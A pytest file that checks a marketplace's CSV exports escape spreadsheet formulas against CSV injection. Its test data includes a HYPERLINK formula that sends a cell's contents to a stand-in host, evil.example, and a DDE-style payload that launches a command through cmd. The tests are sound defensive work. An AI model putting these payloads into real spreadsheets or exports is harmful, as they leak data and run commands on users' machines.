"""Every CSV export neutralises spreadsheet formulas (CSV injection): a vendor named
=HYPERLINK(...) must reach the operator's DAC7 file and the seller's statement as text."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from marketplace.csv_export import FORMULA_STARTS, csv_cell, csv_dict_writer, csv_writer
from moderation.selectors_notices import transparency_csv
from tests.conftest import client_for
from tests.payouts.test_reports import PERIOD, TODAY, history  # noqa: F401 (fixture)
from vendors.models import Vendor

EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Klick")'
EVIL_LEGAL = "@SUM(1+1)*cmd|' /C calc'!A0"


def formula(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS)


@given(st.lists(st.text(max_size=30), min_size=1, max_size=5))
def test_written_cells_never_start_a_formula_and_keep_their_text(cells):
    out = io.StringIO()
    csv_writer(out).writerow(cells)
    (row,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    for written, original in zip(row, cells):
        if formula(written):
            assert written == original and float(written) is not None  # only plain numbers, e.g. -12.50
        else:
            assert written in (original, "'" + original)


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "+", "=", "-1e5"])
def test_formula_starts_are_neutralised(value):
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-12.50", "+3", "0", "12", "Hut", "", 5, -5, None])
def test_numbers_and_text_stay_as_they_are(value):
    assert csv_cell(value) == value


def test_dict_writer_neutralises_values():
    out = io.StringIO()
    writer = csv_dict_writer(out, ["name", "amount"])
    writer.writeheader()
    writer.writerow({"name": EVIL, "amount": "-3.00"})
    assert list(csv.DictReader(io.StringIO(out.getvalue()))) == [{"name": "'" + EVIL, "amount": "-3.00"}]


@pytest.mark.django_db
def test_dac7_csv_neutralises_vendor_names(shop, operator, history):  # noqa: F811
    Vendor.objects.filter(id=shop["alpha"].id).update(name=EVIL, legal_name=EVIL_LEGAL)
    response = client_for(operator).get("/api/payouts/operator/dac7/", {"year": TODAY.year, "output": "csv"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    alpha = next(r for r in rows if int(r["vendor_id"]) == shop["alpha"].id)
    assert alpha["name"] == "'" + EVIL and alpha["legal_name"] == "'" + EVIL_LEGAL
    assert not any(
        formula(cell) for row in rows for cell in row.values() if not cell.lstrip("+-").replace(".", "").isdigit()
    )


@pytest.mark.django_db
def test_statement_csv_neutralises_the_vendor_name(shop, history):  # noqa: F811
    Vendor.objects.filter(id=shop["alpha"].id).update(name=EVIL)
    response = client_for(shop["alpha_owner"]).get("/api/payouts/seller/statement/", {**PERIOD, "output": "csv"})
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][2] == "'" + EVIL
    amounts = [row[7] for row in rows[4:-1]]
    assert any(a.startswith("-") for a in amounts)  # negative amounts stay numbers
    assert all(not formula(cell) or cell.lstrip("+-").replace(".", "").isdigit() for row in rows for cell in row)


def test_transparency_csv_neutralises_figures():
    text = transparency_csv({EVIL: 3, "notices": {"note": "-minus"}, "total": -2})
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["measure", "value"], ["'" + EVIL, "3"], ["notices.note", "'-minus"], ["total", "-2"]]
